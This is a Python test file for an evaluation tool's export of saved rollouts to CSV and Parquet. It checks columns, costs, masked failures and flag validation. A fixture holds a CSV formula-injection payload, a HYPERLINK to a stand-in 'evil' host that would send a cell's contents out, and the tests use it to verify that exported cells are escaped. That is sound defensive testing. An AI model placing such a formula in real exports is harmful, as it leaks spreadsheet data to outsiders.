"""Saved runs as flat rows: every rollout once, every cell plain, and no cell that a spreadsheet would run."""

import csv
import json
import math
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from gym_core.cli.main import main
from gym_core.errors import FailureKind
from gym_core.export.formats.rows import safe_cell
from gym_core.export.rows import FIXED_COLUMNS, MAX_OWN_COLUMNS, Cell, CellKind, Column, OwnColumns, as_cell
from gym_core.rollout.output import RunManifest, write_json
from gym_core.types.cost import RunPrices, TokenPrices
from gym_core.types.rollout import RolloutRecord
from gym_core.types.verification import Verification
from gym_core.types.wire import JsonObject
from tests.unit.export.saved_runs import FakeRun

PRICES = RunPrices(
    policy=TokenPrices(input=2, output=8, currency="USD"), judge=TokenPrices(input=1, output=1, currency="USD")
)
FORMULA = '=HYPERLINK("http://evil/?"&A1,"click")'


def graded(record: RolloutRecord, reward: float, task: JsonObject, details: JsonObject) -> RolloutRecord:
    verification = Verification(reward=reward, details=details, reward_components={"rule": reward, "judge": 0.5})
    task_data = record.task.task_data | task
    return record.model_copy(
        update={"verification": verification, "task": record.task.model_copy(update={"task_data": task_data})}
    )


@pytest.fixture
def run(tmp_path: Path) -> Path:
    """Two graded rollouts, one with hostile words, and one that is masked."""
    fake = FakeRun(tmp_path / "results")
    spent = {"input_tokens": 1_000_000, "output_tokens": 500_000}
    judged = {"judge_usage": {"calls": 1, "input": 1_000_000, "output": 0}}
    records = [
        graded(
            fake.record(0, fake.tool_session(), **spent),
            1.0,
            {"expected_answer": "-5", "choices": ["a", "b"], "level": 1},
            {"extracted_answer": "-5", "sure": True, **judged},
        ),
        graded(
            fake.record(1, fake.tool_session(), **spent),
            0.0,
            {"expected_answer": FORMULA, "level": 2.5},
            {"extracted_answer": 'a,\n"b" ü', "sure": None},
        ),
        fake.record(2, fake.tool_session(), failure=FailureKind.JUDGE_FAILED),
    ]
    path = fake.write(records)
    manifest = RunManifest.model_validate_json(fake.files.manifest.read_bytes())
    write_json(fake.files.manifest, manifest.model_copy(update={"prices": PRICES}).model_dump(mode="json"))
    return path


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


def test_csv_has_a_row_a_rollout_with_task_reward_grade_tokens_and_cost(
    run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "--format", "rows_csv", "--output", str(tmp_path / "rows.csv"), str(run)]) == 0
    first, second, masked = read_csv(tmp_path / "rows.csv")
    assert "3 rows of" in capsys.readouterr().out
    assert (first["run"], first["task_id"], first["repeat"], first["reward"]) == ("run", "0", "0", "1.0")
    assert (first["task.level"], first["task.choices"], first["reward.judge"]) == ("1.0", '["a", "b"]', "0.5")
    assert (first["grader.sure"], second["grader.sure"]) == ("true", "")
    assert (first["input_tokens"], first["output_tokens"], first["judge_input_tokens"]) == (
        "1000000",
        "500000",
        "1000000",
    )
    assert (first["cost"], second["cost"], first["currency"]) == ("7.0", "6.0", "USD")
    assert (masked["reward"], masked["masked"], masked["failure_kind"]) == ("", "true", "judge_failed")
    assert "grader.judge_usage" not in first


def test_no_cell_of_a_csv_is_a_formula(run: Path, tmp_path: Path) -> None:
    main(["export", "--format", "rows_csv", "--output", str(tmp_path / "rows.csv"), str(run)])
    first, second, _ = read_csv(tmp_path / "rows.csv")
    assert (first["answer"], first["task.expected_answer"]) == ("'-5", "'-5")
    assert second["task.expected_answer"] == f"'{FORMULA}"
    assert second["answer"] == 'a,\n"b" ü'


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        *((f"{start}1", f"'{start}1") for start in "=+-@\t\r\n＝＋－＠"),
        ("", ""), (None, ""), ("a=1", "a=1"), (" =1", " =1"), ("'=1", "'=1"), (-5, "-5"),
        (-0.5, "-0.5"), (True, "true"),
    ],
)  # fmt: skip
def test_a_cell_that_begins_as_a_formula_does_is_text(cell: Cell, shown: str) -> None:
    assert safe_cell(cell) == shown


def test_parquet_has_the_same_rows_typed(run: Path, tmp_path: Path) -> None:
    assert main(["export", "--format", "rows_parquet", "--output", str(tmp_path / "rows.parquet"), str(run)]) == 0
    table = pq.read_table(tmp_path / "rows.parquet")
    first, second, masked = table.to_pylist()
    assert (first["reward"], first["task.level"], second["task.level"]) == (1.0, 1.0, 2.5)
    assert (first["grader.sure"], second["grader.sure"], masked["grader.sure"]) == (True, None, None)
    assert (masked["masked"], masked["reward"], first["cost"], masked["cost"]) == (True, None, 7.0, None)
    assert second["task.expected_answer"] == FORMULA
    assert second["answer"] == 'a,\n"b" ü'
    assert table.column_names[: len(FIXED_COLUMNS)] == [column.name for column in FIXED_COLUMNS]


def test_without_a_price_or_a_manifest_there_is_no_cost(tmp_path: Path) -> None:
    fake = FakeRun(tmp_path / "results")
    path = fake.write([fake.record(0, fake.tool_session(), input_tokens=10, output_tokens=5)])
    fake.files.manifest.unlink()
    assert main(["export", "--format", "rows_csv", "--output", str(tmp_path / "rows.csv"), str(path)]) == 0
    (row,) = read_csv(tmp_path / "rows.csv")
    assert (row["input_tokens"], row["cost"], row["currency"]) == ("10", "", "")


@pytest.mark.parametrize(
    ("words", "said"),
    [
        ([], "give --format and --output for a file, or --to for a tracker"),
        (["--format", "rows_csv"], "--format needs --output"),
        (["--format", "rows_csv", "--to", "wandb", "--output", "x"], "give --format and --output"),
        (["--to", "wandb", "--output", "x"], "--output goes with --format"),
        (["--format", "jsonl", "--output", "x", "--project", "p"], "--project and --name go with --to"),
        (["--format", "rows_csv", "--output", "x", "--images", "inline"], "--images is for training formats"),
        (["--format", "rows_csv", "--output", "x", "--include-masked"], "--include-masked is for training formats"),
    ],
)
def test_flags_that_do_not_go_together_are_refused(
    words: list[str], said: str, run: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(run.parent)
    assert main(["export", *words, str(run)]) == 2
    assert said in capsys.readouterr().err
    assert not Path("x").exists()


def test_a_run_that_is_given_twice_and_a_file_that_is_there_are_refused(
    run: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    output = tmp_path / "rows.csv"
    assert main(["export", "--format", "rows_csv", "--output", str(output), str(run), str(run)]) == 2
    assert "given twice" in capsys.readouterr().err
    output.write_text("mine")
    assert main(["export", "--format", "rows_csv", "--output", str(output), str(run)]) == 2
    assert output.read_text() == "mine"


@pytest.mark.parametrize(
    ("cells", "kind"),
    [
        ([None, True], CellKind.BOOL), ([True, 1], CellKind.TEXT), ([1, None, 2], CellKind.INT),
        ([1, 2.5], CellKind.FLOAT),
        ([2.5, 1, "x"], CellKind.TEXT), ([None], CellKind.TEXT),
    ],
)  # fmt: skip
def test_a_column_is_of_the_kind_that_holds_all_its_cells(cells: list[Cell], kind: CellKind) -> None:
    own = OwnColumns()
    for cell in cells:
        own.note({"task.x": cell})
    assert own.columns() == (Column("task.x", kind),)


def test_columns_without_number_are_cut() -> None:
    own = OwnColumns()
    own.note({f"task.{n}": n for n in range(MAX_OWN_COLUMNS + 7)})
    assert (len(own.columns()), len(own.left_out)) == (MAX_OWN_COLUMNS, 7)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (2**63, str(2**63)),
        (2**63 - 1, 2**63 - 1),
        (math.inf, "inf"),
        ({"a": [1]}, '{"a": [1]}'),
        ("x", "x"),
        (None, None),
    ],
)
def test_what_is_no_plain_value_is_text(value: object, cell: Cell) -> None:
    assert as_cell(value) == cell
    assert json.dumps(as_cell(value))


def test_the_export_page_names_every_fixed_column() -> None:
    page = (Path(__file__).resolve().parents[3] / "docs" / "export.md").read_text(encoding="utf-8")
    assert [column.name for column in FIXED_COLUMNS if f"`{column.name}`" not in page] == []
